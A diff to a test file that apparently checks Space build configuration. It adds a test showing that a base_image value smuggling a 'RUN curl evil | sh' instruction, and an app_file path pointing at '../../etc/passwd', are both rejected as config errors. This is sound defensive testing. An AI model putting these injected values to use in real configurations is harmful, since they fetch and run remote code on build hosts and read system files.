@@ -120,6 +120,19 @@ describe("Space builds", () => {
     );
   });
 
+  it("refuse a base_image or app_file that is not a plain reference or path", async () => {
+    const { record } = await gradioSpace();
+    await commit(record, {
+      "README.md": `---\nsdk: gradio\nbase_image: "alpine\\nRUN curl evil | sh"\n---\n`,
+    });
+    expect(await findSpaceBuild(record.id)).toMatchObject({
+      buildState: "config_error",
+      buildMessage: "`base_image` is not an image reference.",
+    });
+    await commit(record, { "README.md": card("app_file: ../../etc/passwd x\n") });
+    expect(await findSpaceBuild(record.id)).toMatchObject({ buildState: "config_error" });
+  });
+
   it("are as private as their Space: runtime and offline commands are 404 to others", async () => {
     const owner = await makeAccount();
     const { record } = await makeHubRepo(owner, { type: "space", isPrivate: true });
